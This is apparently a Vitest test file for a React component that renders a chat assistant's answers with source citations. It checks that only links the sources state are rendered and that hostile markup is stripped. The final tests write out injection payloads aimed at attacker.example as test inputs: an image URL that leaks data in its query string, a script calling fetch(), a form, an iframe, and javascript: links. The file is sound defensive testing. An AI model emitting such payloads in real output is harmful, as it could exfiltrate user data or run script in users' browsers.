import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import type { Source } from '#lib/domain/chat.ts';
import { AnswerText } from './answer-text.tsx';

const source = (text: string): Source => ({
  number: 1,
  documentId: 'd',
  versionId: 'v',
  chunkId: 'c',
  documentTitle: 'Manual',
  pageNumber: 1,
  startOffset: 0,
  endOffset: text.length,
  headings: [],
  text,
  score: 1,
  similarity: 0.5,
});

const render = (text: string, sourceText = '') =>
  renderToStaticMarkup(
    <AnswerText
      messageId="m"
      text={text}
      citations={[]}
      unsupportedSpans={[]}
      sources={[source(sourceText)]}
      onOpenSource={() => undefined}
    />,
  );

describe('AnswerText', () => {
  it('links what a source says, as it says it', () => {
    const manual = 'Register at https://acme.example/start or write to help@acme.example.';
    expect(render('See https://acme.example/start.', manual)).toContain('<a href="https://acme.example/start"');
    expect(render('Ask help@acme.example.', manual)).toContain('<a href="mailto:help@acme.example"');
  });

  it('says where a link leads whose words do not', () => {
    const html = render('[our support](http://attacker.example/a)', 'Visit [our support](http://attacker.example/a).');
    expect(html).toContain('<a href="http://attacker.example/a"');
    expect(html).toContain('(attacker.example)');
  });

  it.each([
    ['an address of nobody', 'Download it from www.suspicious.example now.', ''],
    ['a longer address', '[state](http://acme.example/?q=secret)', 'See http://acme.example for more.'],
    ['a piece of an address', 'http://acme.example/a', 'See http://acme.example/abc.'],
    ['the end of a name', 'http://acme.example', 'See http://not-acme.example.'],
    ['a script', '[click](javascript:alert(1))', 'javascript:alert(1)'],
    ['data', '[click](data:text/html,x)', 'data:text/html,x'],
  ])('makes no link of %s', (_what, answer, text) => {
    expect(render(answer, text)).not.toContain('<a');
  });

  it('loads, frames and posts nothing, whatever a document says', () => {
    const hostile = [
      '![state](http://attacker.example/steal?q=1)',
      '<img src="http://attacker.example/p.png"><script>fetch("http://attacker.example")</script>',
      '<form action="http://attacker.example"><button>Go</button></form><iframe src="http://attacker.example"></iframe>',
      '<link rel="stylesheet" href="http://attacker.example/a.css"><style>@import url(http://attacker.example)</style>',
      '<svg><image href="http://attacker.example/p"/></svg><video src="http://attacker.example/v"></video>',
    ].join('\n\n');
    expect(render(hostile, hostile)).not.toMatch(/<(?:img|script|form|iframe|link|style|svg|image|video)\b/);
  });
});
